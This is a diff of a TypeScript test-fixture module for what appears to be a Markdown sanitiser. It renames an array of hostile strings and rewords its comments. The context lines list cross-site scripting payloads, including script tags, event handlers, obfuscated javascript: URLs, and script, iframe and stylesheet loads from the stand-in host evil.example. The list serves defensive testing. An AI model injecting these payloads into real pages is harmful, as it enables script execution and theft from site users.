@@ -1,6 +1,6 @@
-/** Hostile strings written for this pipeline, one for each way we know into a page. */
-export const OWN_STRINGS: readonly string[] = [
-  // Scripts, and where one may hide from a parser.
+/** Hostile strings for this Markdown pipeline, one for each known kind of injection. */
+export const HOSTILE_STRINGS: readonly string[] = [
+  // Script elements, also where parsers disagree about what is text.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/a.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -16,7 +16,7 @@ export const OWN_STRINGS: readonly string[] = [
   '<!-- --!><img src=x onerror=alert(1)> -->',
   '<![CDATA[<img src=x onerror=alert(1)>]]>',
   '<?php <img src=x onerror=alert(1)> ?>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror&#61;alert(1) onerror=alert(2)>',
   '<img/src="x"/onerror=alert(1)>',
@@ -32,7 +32,7 @@ export const OWN_STRINGS: readonly string[] = [
   '<marquee onstart=alert(1)>x</marquee>',
   '<select onfocus=alert(1) autofocus><option>x</option></select>',
   '<td onmouseover=alert(1)>x</td>',
-  // Addresses.
+  // URLs.
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   'java&Tab;script:alert(1)',
@@ -61,7 +61,7 @@ export const OWN_STRINGS: readonly string[] = [
   '<video>文<object>文<iframe src="//evil.example/"></iframe></object></video>',
   '<embed src="data:text/html,<script>alert(1)</script>">',
   '<script src="https://speakerdeck.com/assets/embed.js" data-id="../../x?"></script>',
-  // Styles, names that clobber, and parsers at odds.
+  // Styles, DOM clobbering, and HTML that parsers read differently.
   '<style>@import "//evil.example/a.css";</style>',
   '<link rel=stylesheet href=//evil.example/a.css>',
   '<p style="background:url(//evil.example/a)">x</p>',
